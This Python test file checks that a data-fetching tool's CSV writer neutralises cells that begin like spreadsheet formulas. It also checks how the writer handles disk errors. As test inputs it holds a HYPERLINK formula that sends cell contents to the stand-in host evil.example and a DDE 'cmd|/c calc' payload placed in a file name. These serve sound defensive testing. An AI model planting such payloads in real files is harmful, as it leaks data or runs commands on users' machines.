"""The spreadsheet-formula rule (OWASP "CSV injection") on every CSV sci_fetch writes, and typed rows.

Each test reads the file back as bytes or csv cells and names the exact cell expected.
"""

from __future__ import annotations

import csv
from dataclasses import dataclass
from pathlib import Path

import pytest

from sci_fetch.errors import DiskError
from sci_fetch.fs.csv_out import CsvWriter, columns, read_cell, safe_cell
from sci_fetch.keys.mapping import Task
from sci_fetch.manifest.models import Outcome, State
from sci_fetch.manifest.report import FailureRow, write_failures
from sci_fetch.manifest.store import Manifest

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@dataclass(frozen=True)
class Pair:
    name: str
    value: float | None


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("deer", "deer"),
        ("a=b", "a=b"),
        ("'=already", "'=already"),
        ("", ""),
    ],
)
def test_text_cells_that_start_a_formula_get_a_quote(cell, written):
    assert safe_cell(cell) == written
    assert read_cell(written) == cell or cell.startswith("'")


def test_numbers_the_tool_writes_stay_numbers():
    assert safe_cell(-3) == -3
    assert safe_cell(-0.5) == -0.5
    assert safe_cell(None) is None


def test_header_comes_from_the_fields_and_rows_are_cells_in_that_order(tmp_path):
    path = tmp_path / "pairs.csv"
    with CsvWriter(path, Pair, track=["name"], chunk_rows=2) as out:
        for row in (Pair("-x", -1), Pair("y", 2.5), Pair("@z", None), Pair("=1", 0)):
            out.add(row)
        out.commit()
        escaped = out.escaped
    assert columns(Pair) == ["name", "value"]
    assert path.read_bytes() == b"name,value\n'-x,-1\ny,2.5\n'@z,\n'=1,0\n"
    assert escaped == {"name": {"-x", "@z", "=1"}}


def test_a_csv_that_cannot_be_written_is_a_disk_error_naming_it(tmp_path):
    (tmp_path / "file").write_text("")
    with pytest.raises(DiskError, match="cannot write .*file/x.csv"):
        CsvWriter(tmp_path / "file" / "x.csv", Pair)


def test_failures_csv_applies_the_rule_to_names_ids_and_records(tmp_path):
    """A hostile file name / id in the COCO file reaches failures.csv as text a spreadsheet will not run;
    the attempts count stays a number; the rest of the bytes are as before (CRLF rows)."""
    m = Manifest(tmp_path / "m.sqlite")
    run = m.begin_run({})
    m.plan([Task(image_id="-1", key="@key.jpg", dest="=cmd|'/c calc'!A0.jpg")], run, tmp_path)
    m.record([Outcome(image_id="-1", state=State.failed, attempts=3, error="+HTTP 500")])
    m.add_rejects(run, [("invalid", HOSTILE, "=id", None, None, "-bad file_name")])
    path = tmp_path / "failures.csv"
    assert write_failures(m, run, path) == 2
    m.close()
    assert path.read_bytes().split(b"\r\n")[0] == b"key,destination,reason,attempts,image_id,state,record"
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows == [
        ["key", "destination", "reason", "attempts", "image_id", "state", "record"],
        ["'@key.jpg", "'=cmd|'/c calc'!A0.jpg", "'+HTTP 500", "3", "'-1", "failed", ""],
        ["", "", "'-bad file_name", "0", "'=id", "invalid", "'" + HOSTILE],
    ]
    assert [f.name for f in FailureRow.__dataclass_fields__.values()] == rows[0]


def test_failures_on_a_full_disk_is_one_line_and_no_temp(tmp_path, caplog):
    m = Manifest(tmp_path / "m.sqlite")
    run = m.begin_run({})
    blocked = tmp_path / "blocked"
    blocked.write_text("")
    assert write_failures(m, run, blocked / "failures.csv") == 0
    m.close()
    assert f"{blocked / 'failures.csv'} not written:" in caplog.text
    assert sorted(p.name for p in Path(tmp_path).iterdir() if p.name.endswith((".tmp", ".partial"))) == []
